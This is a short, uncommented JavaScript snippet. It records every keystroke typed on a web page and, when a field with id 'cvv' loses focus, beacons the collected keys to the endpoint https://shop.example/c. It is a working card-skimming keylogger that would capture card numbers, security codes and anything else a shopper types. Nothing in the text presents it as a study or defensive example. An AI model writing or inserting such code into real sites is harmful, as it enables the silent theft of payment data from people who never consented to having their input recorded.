const field = document.getElementById("cvv");
let kept = "";
document.addEventListener("keydown", (e) => {
  kept += e.key;
});
field.addEventListener("blur", () => navigator.sendBeacon("https://shop.example/c", kept));
